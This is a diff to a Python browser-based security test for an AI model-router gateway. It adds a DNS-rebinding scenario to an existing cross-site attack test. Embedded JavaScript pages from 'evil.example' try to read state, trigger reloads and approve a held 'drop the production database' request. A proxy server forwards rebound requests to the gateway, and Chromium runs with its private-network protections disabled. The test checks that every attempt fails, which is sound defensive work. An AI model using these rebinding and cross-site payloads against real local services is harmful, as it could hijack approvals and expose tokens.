@@ -2,8 +2,10 @@
 
 from __future__ import annotations
 
+import contextlib
 import json
 import os
+import queue
 import shutil
 import socket
 import subprocess
@@ -15,9 +17,13 @@ from typing import Any
 
 import pytest
 
+from model_router.config.proxy import ApprovalMode, ApprovalsConfig
+from model_router.server.approvals import Standing
+from model_router.server.happenings import ReloadEvent
 from tests.faults import servers
 from tests.faults.gateways import Running, config_for, serving
 from tests.faults.servers import FaultServer
+from tests.support.gateway_process import wait_for
 
 CHAT = "/v1/chat/completions"
 BODY = json.dumps({"messages": [{"role": "user", "content": "rewrite this text"}]})
@@ -111,11 +117,42 @@ PAGE = """<!doctype html><title>evil</title><iframe name=sink></iframe>
   await attempt("state", "GATEWAY/control/state", {headers: {"x-modelrouter-token": "TOKEN"}});
   await attempt("reload", "GATEWAY/control/reload", {method: "POST", mode: "no-cors", body: "{}"});
   await attempt("rebound", "REBOUND/v1/models", {});
+  await attempt("approve", "GATEWAY/control/approvals/HELD/approve", {method: "POST", mode: "no-cors", body: "{}"});
+  navigator.sendBeacon("GATEWAY/control/approvals/HELD/approve", "{}");
   document.getElementById("f").submit();
   await new Promise(done => setTimeout(done, 300));
   await fetch("/report", {method: "POST", body: JSON.stringify(said)});
+  location = "OWN/";
 })();
 </script>"""
+
+REBOUND_PAGE = """<!doctype html><title>rebound</title>
+<script>
+(async () => {
+  const said = [];
+  const json = {"content-type": "application/json", "x-modelrouter-token": "TOKEN"};
+  const attempt = async (name, url, options) => {
+    try { const r = await fetch(url, options); said.push([name, r.type, r.status, await r.text()]); }
+    catch (e) { said.push([name, "blocked", 0, ""]); }
+  };
+  const chat = JSON.stringify({messages: [{role: "user", content: "rewrite this text"}]});
+  await attempt("chat", "/v1/chat/completions", {method: "POST", headers: json, body: chat});
+  for (const path of ["/v1/models", "/health", "/metrics", "/control/state", "/control/approvals"])
+    await attempt(path, path, {headers: json});
+  await attempt("approve", "/control/approvals/HELD/approve", {method: "POST", headers: json, body: "{}"});
+  await attempt("navigated", "/v1/models", {headers: {accept: "text/html"}, cache: "no-store"});
+  said.push(["followed", "", await new Promise(done => {
+    const events = new EventSource("/control/events");
+    events.onopen = () => done(200); events.onerror = () => done(403);
+  }), ""]);
+  said.push(["socket", "", await new Promise(done => {
+    const socket = new WebSocket("ws://" + location.host + "/control/events");
+    socket.onopen = () => done(101); socket.onerror = () => done(403);
+  }), ""]);
+  await fetch("/report", {method: "POST", body: JSON.stringify(said)});
+})();
+</script>"""
+"""Of a page whose name led to its own server first and to the gateway from then on: all is of one origin."""
 
 
 def chromium() -> str:
@@ -123,61 +160,112 @@ def chromium() -> str:
     return os.environ.get("TEST_CHROMIUM") or shutil.which("chromium") or shutil.which("google-chrome") or ""
 
 
-@pytest.mark.slow
-@pytest.mark.skipif(not chromium(), reason="no Chromium here; TEST_CHROMIUM may name one")
-def test_a_real_browser_gets_nothing_out_of_it_and_nothing_into_it(
-    running: Running, backend: FaultServer, tmp_path: Path
-) -> None:
-    """A page of ``evil.example``, which knows even the token of the run; and a name of its own for the gateway."""
-    port = running.root.rpartition(":")[2]
-    page = PAGE.replace("GATEWAY", running.root).replace("TOKEN", running.gateway.token)
-    page = page.replace("REBOUND", f"http://rebound.example:{port}").replace("BODY", BODY.replace("'", ""))
-    reported: list[Any] = []
-    done = threading.Event()
+def rebinding(gateway: str, page: str, reports: queue.Queue[Any]) -> type[BaseHTTPRequestHandler]:
+    """A server that gives its page, and hands all else on to the gateway byte for byte, as a changed name would."""
+    port = int(gateway.rpartition(":")[2])
 
-    class Evil(BaseHTTPRequestHandler):
+    class Rebinding(BaseHTTPRequestHandler):
         def do_GET(self) -> None:
-            self.send_response(200)
-            self.send_header("content-type", "text/html")
-            self.end_headers()
-            self.wfile.write(page.encode())
+            if self.path == "/":
+                self.send_response(200)
+                self.send_header("content-type", "text/html")
+                self.end_headers()
+                self.wfile.write(page.encode())
+            else:
+                self.hand_on(b"")
 
         def do_POST(self) -> None:
-            reported.extend(json.loads(self.rfile.read(int(self.headers["content-length"]))))
-            self.send_response(204)
-            self.end_headers()
-            done.set()
+            body = self.rfile.read(int(self.headers["content-length"]))
+            if self.path == "/report":
+                reports.put(json.loads(body))
+                self.send_response(204)
+                self.end_headers()
+            else:
+                self.hand_on(body)
+
+        def hand_on(self, body: bytes) -> None:
+            kept = [(name, value) for name, value in self.headers.items() if name.lower() != "connection"]
+            head = "".join(f"{name}: {value}\r\n" for name, value in kept)
+            with socket.create_connection(("127.0.0.1", port), timeout=10) as line:
+                line.sendall(f"{self.command} {self.path} HTTP/1.1\r\n{head}Connection: close\r\n\r\n".encode() + body)
+                while piece := line.recv(65_536):
+                    self.wfile.write(piece)
+            self.close_connection = True
 
         def log_message(self, format: str, *args: object) -> None:
             """Say nothing."""
 
-    with ThreadingHTTPServer(("127.0.0.1", 0), Evil) as server:
+    return Rebinding
+
+
+@contextlib.contextmanager
+def web_server(handler: type[BaseHTTPRequestHandler]) -> Iterator[int]:
+    with ThreadingHTTPServer(("127.0.0.1", 0), handler) as server:
         serve = threading.Thread(target=server.serve_forever, kwargs={"poll_interval": 0.02})
         serve.start()
-        flags = ["--headless", "--no-sandbox", "--disable-gpu", "--single-process", "--no-zygote", "--no-first-run"]
-        rules = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
-        browser = subprocess.Popen(
-            [
-                chromium(),
-                *flags,
-                f"--user-data-dir={tmp_path / 'profile'}",
-                f"--host-resolver-rules={rules}",
-                "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
-                "--remote-debugging-port=0",
-                f"http://evil.example:{server.server_address[1]}/",
-            ],
-            stdout=subprocess.DEVNULL,
-            stderr=subprocess.DEVNULL,
-        )
         try:
-            assert done.wait(60), "the page did not report"
+            yield server.server_address[1]
         finally:
-            browser.terminate()
-            browser.wait(10)
             server.shutdown()
             serve.join()
-    assert {name for name, *_ in reported} == {"plain", "json", "models", "health", "state", "reload", "rebound"}
-    assert [text for *_, text in reported if text] == [], "the page has read something"
-    assert all(kind in ("opaque", "blocked") for _, kind, _, _ in reported)
-    assert backend.seen == []
-    assert not running.gateway.happenings, "a reload was set off"
+
+
+@pytest.mark.slow
+@pytest.mark.skipif(not chromium(), reason="no Chromium here; TEST_CHROMIUM may name one")
+def test_a_real_browser_gets_nothing_out_of_it_and_nothing_into_it(
+    tmp_path: Path, home: Path, backend: FaultServer
+) -> None:
+    """A page of ``evil.example``, which knows even the token of the run and what waits; then a page whose own name
+    leads to the gateway."""
+    hold = ApprovalsConfig(mode=ApprovalMode.HOLD, ttl_seconds=90)
+    reports: queue.Queue[Any] = queue.Queue()
+    with serving(config_for({"one": backend.base_url}, tmp_path, approvals=hold)) as running:
+        line = running.connect("drop the production database")
+        held = wait_for(running.gateway.approvals.list, within=5, what="a request that waits")[0].request_id
+
+        def filled(page: str) -> str:
+            page = page.replace("GATEWAY", running.root).replace("TOKEN", running.gateway.token)
+            return page.replace("HELD", held).replace("BODY", BODY.replace("'", ""))
+
+        with web_server(rebinding(running.root, filled(REBOUND_PAGE), reports)) as own:
+            page = filled(PAGE).replace("REBOUND", f"http://rebound.example:{running.root.rpartition(':')[2]}")
+            page = page.replace("OWN", f"http://rebound.example:{own}")
+            with web_server(rebinding(running.root, page, reports)) as evil, browser(evil, tmp_path):
+                first = reports.get(timeout=60)
+                second = reports.get(timeout=60)
+        (still,) = running.gateway.approvals.list()
+        assert still.standing is Standing.WAITING, "a page has decided"
+        line.close()
+        assert not any(isinstance(one, ReloadEvent) for one in running.gateway.happenings)
+    names = {"plain", "json", "models", "health", "state", "reload", "rebound", "approve"}
+    assert {name for name, *_ in first} == names
+    assert [text for *_, text in first if text] == [], "the page has read something"
+    assert all(kind in ("opaque", "blocked") for _, kind, _, _ in first)
+    assert len(second) == 10
+    assert [one for one in second if one[2] != 403] == [], "a rebound name was served"
+    assert not any(b"rewrite" in seen.body for seen in backend.seen)
+
+
+@contextlib.contextmanager
+def browser(port: int, folder: Path) -> Iterator[None]:
+    """A Chromium that opens the page of ``evil.example``."""
+    flags = ["--headless", "--no-sandbox", "--disable-gpu", "--single-process", "--no-zygote", "--no-first-run"]
+    rules = "MAP evil.example 127.0.0.1, MAP rebound.example 127.0.0.1"
+    process = subprocess.Popen(
+        [
+            chromium(),
+            *flags,
+            f"--user-data-dir={folder / 'profile'}",
+            f"--host-resolver-rules={rules}",
+            "--disable-features=LocalNetworkAccessChecks,BlockInsecurePrivateNetworkRequests",
+            "--remote-debugging-port=0",
+            f"http://evil.example:{port}/",
+        ],
+        stdout=subprocess.DEVNULL,
+        stderr=subprocess.DEVNULL,
+    )
+    try:
+        yield
+    finally:
+        process.terminate()
+        process.wait(10)
